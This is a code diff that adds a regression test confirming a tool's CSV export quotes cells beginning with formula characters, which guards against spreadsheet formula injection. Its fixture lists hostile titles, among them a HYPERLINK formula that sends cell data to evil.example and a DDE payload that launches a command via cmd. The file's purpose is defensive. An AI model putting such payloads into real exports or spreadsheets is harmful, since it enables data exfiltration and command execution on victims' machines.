@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
 import subprocess
 from pathlib import Path
@@ -200,3 +201,33 @@ def test_check_base_names_each_unrecorded_move_by_file_line_and_column(repo):
     git(root, "commit", "-q", "-am", "record the moves")
     fixed = run_radar("check", "--base", "HEAD~2", "--source", str(radar_dir.root))
     assert fixed.returncode == 0, fixed.stderr
+
+
+def test_moves_csv_never_writes_a_live_formula(radar_dir):
+    """Reproducer: `=HYPERLINK(...)` titles became live spreadsheet formulas. Every risky first character is quoted."""
+    from inprocess import radar
+
+    hostile = {
+        "eq": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "plus": "+1+cmd|' /C calc'!A0",
+        "minus": "-2+3",
+        "at": "@SUM(1+1)",
+        "tab": "\t=1+1",
+        "cr": "\r=1+1",
+        "wide": "\uff1d1+1",
+    }
+    for ident, title in hostile.items():  # JSON strings are YAML double-quoted scalars
+        note = f"history: [{{edition: 2026-Q2, ring: trial, note: {json.dumps(title)}}}]\n"
+        radar_dir.blip(ident, title=json.dumps(title), extra=note)
+    radar_dir.blip("plain", title="Plain = fine")
+    result = radar("moves", "--format", "csv", "--source", str(radar_dir.root))
+    assert result.returncode == 0, result.stderr
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
+    for ident, title in hostile.items():
+        for column in ("title", "note"):  # quoted, and otherwise as written (the loader may trim whitespace)
+            cell = rows[ident][column]
+            assert cell.startswith("'") and cell[1:].strip() == title.strip(), (ident, column, cell)
+    assert rows["plain"]["title"] == "Plain = fine"
+    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert [cell for cell in cells if cell.startswith(starts)] == []
